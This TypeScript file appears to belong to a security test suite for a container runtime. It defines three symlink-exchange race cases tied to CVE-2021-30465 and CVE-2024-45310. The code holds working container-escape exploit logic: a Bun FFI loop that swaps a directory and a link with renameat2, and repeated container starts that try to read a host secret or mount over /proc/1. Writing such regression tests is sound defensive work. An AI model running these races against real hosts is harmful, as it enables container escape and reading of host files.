/**
 * A container that shares a volume changes it while another starts: a directory of a mount's path is a link from one
 * moment to the next (renameat2(2) exchanges the two). What is checked and what is used must be the same thing.
 */
import type { AttackCase, Stage } from '../case.ts';
import { isRefusal } from '../probe.ts';

const STARTS = 25;

/** Exchanges /shared/a and /shared/b, a directory and a link, as fast as Bun can. */
const SWAP = `
const { dlopen, ptr } = require('bun:ffi');
const { symbols } = dlopen('libc.so.6', {
  renameat2: { args: ['i32', 'ptr', 'i32', 'ptr', 'u32'], returns: 'i32' },
});
const a = Buffer.from('/shared/a\\0'), b = Buffer.from('/shared/b\\0');
if (symbols.renameat2(-100, ptr(a), -100, ptr(b), 2) !== 0) throw new Error('cannot exchange');
console.log('swapping');
for (;;) symbols.renameat2(-100, ptr(a), -100, ptr(b), 2);`;

interface Race {
  readonly name: string;
  readonly story: string;
  /** What the link of the pair leads to. */
  readonly link: string;
  readonly target: string;
}

const RACES: readonly Race[] = [
  {
    name: 'mount-below-a-volume',
    story:
      'A directory on the way to a mount below the volume becomes a link to the root of the host for a moment.',
    link: '/../../../../../../..',
    target: '/shared/a/inner',
  },
  {
    name: 'mount-on-proc',
    story: 'The directory that is mounted on becomes a link to /proc/self/attr for a moment.',
    link: '/proc/self/attr',
    target: '/shared/a',
  },
  {
    name: 'working-directory',
    story: 'The working directory becomes a link to a descriptor of PID 1 for a moment.',
    link: '/proc/self/fd/6',
    target: '',
  },
];

async function race(stage: Stage, { link, target }: Race): Promise<string | undefined> {
  const secret = stage.secret();
  const image = await stage.image({ files: {} });
  const { flags, command } = stage.bun(SWAP);
  const prepare = `mkdir -p /shared/a/inner; ln -s ${link} /shared/b; exec ${command.join(' ')}`;
  const swapper = await stage.minidock(
    ...['run', '-d', '-v', 'shared:/shared', ...flags, '--security-opt', 'seccomp=unconfined'],
    ...[image, '/bin/sh', '-c', prepare],
  );
  if (swapper.exitCode !== 0) throw new Error(swapper.stderr);
  const id = swapper.stdout.trim();
  await stage.host.waitFor(
    async () => (await stage.minidock('logs', id)).stdout.includes('swapping'),
    'the directory and the link to change places',
  );
  const mounts = target === '' ? ['-w', '/shared/a'] : ['-v', `inner:${target}`];
  const look =
    `cat ${secret.path} /..${secret.path} ../../../../../../..${secret.path} 2>/dev/null; ` +
    'grep " /proc/1/" /proc/mounts; echo END';
  let started = 0;
  for (let n = 1; n <= STARTS; n++) {
    const result = await stage.minidock(
      ...['run', '--rm', '-v', 'shared:/shared', ...mounts, image, '/bin/sh', '-c', look],
    );
    if (result.stdout.includes(secret.text))
      return `the host's ${secret.path} was read, at start ${String(n)}`;
    const mount = /^.* \/proc\/1\/.*$/m.exec(result.stdout)?.[0];
    if (mount !== undefined) return `a mount on ${mount}, at start ${String(n)}`;
    if (result.stdout.includes('END')) started++;
    else if (!isRefusal(result) && result.exitCode !== 127) throw new Error(result.stderr);
  }
  if (started === 0) throw new Error('no container started');
  return undefined;
}

export const raceCases: readonly AttackCase[] = RACES.map((attack) => ({
  name: `race-${attack.name}`,
  story: attack.story,
  cves: ['CVE-2021-30465', 'CVE-2024-45310'],
  guard: attack.name !== 'mount-on-proc',
  attack: async (stage) => await race(stage, attack),
}));
